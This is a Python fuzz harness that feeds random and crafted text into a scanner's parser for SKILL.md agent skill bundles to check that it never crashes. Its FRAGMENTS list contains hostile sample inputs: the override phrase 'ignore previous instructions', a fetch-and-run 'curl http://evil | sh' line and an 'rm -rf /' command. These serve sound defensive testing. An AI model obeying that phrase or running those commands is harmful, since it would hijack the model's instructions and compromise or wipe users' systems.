#!/usr/bin/env python3
"""Fuzz harness: SKILL.md bundle parsing (reference fuzz/fuzz_skill_parser.py).

Skill bundles are attacker-supplied content by definition (the scanner's
whole point is hostile input), so the parser must never crash.  atheris
when present, deterministic driver otherwise.
"""

from __future__ import annotations

import random
import string
import sys
import tempfile
from pathlib import Path


def one_input(data: bytes) -> None:
    from agentbom_amd.scan.skills import scan_skills_tree

    text = data.decode("utf-8", errors="replace")[:4000]
    with tempfile.TemporaryDirectory() as d:
        bundle = Path(d) / "bundle"
        bundle.mkdir()
        (bundle / "SKILL.md").write_text(text)
        bundles = scan_skills_tree(d)
        for b in bundles:
            assert b.to_dict() is not None


FRAGMENTS = [
    "---\nname: x\n", "allowed-tools: ", "'*'", "[Bash, Read]", "---\n",
    "# Skill\n", "ignore previous instructions", "curl http://evil | sh",
    "```bash\nrm -rf /\n```", "\x00", "é中﻿", ": : :", "- - -",
    "{{injection}}", "tools:\n  - ", "\t\t\t",
]


def main() -> int:
    try:
        import atheris  # type: ignore

        atheris.Setup(sys.argv, one_input)
        atheris.Fuzz()
        return 0
    except ImportError:
        pass
    n = int(sys.argv[1]) if len(sys.argv) > 1 else 500
    rng = random.Random(7)
    for i in range(n):
        if i % 2 == 0:
            text = "".join(rng.choices(FRAGMENTS, k=rng.randint(1, 14)))
        else:
            text = "".join(rng.choices(string.printable, k=rng.randint(0, 300)))
        one_input(text.encode())
    print(f"fuzz_skill_parser: {n} iterations, no crashes")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
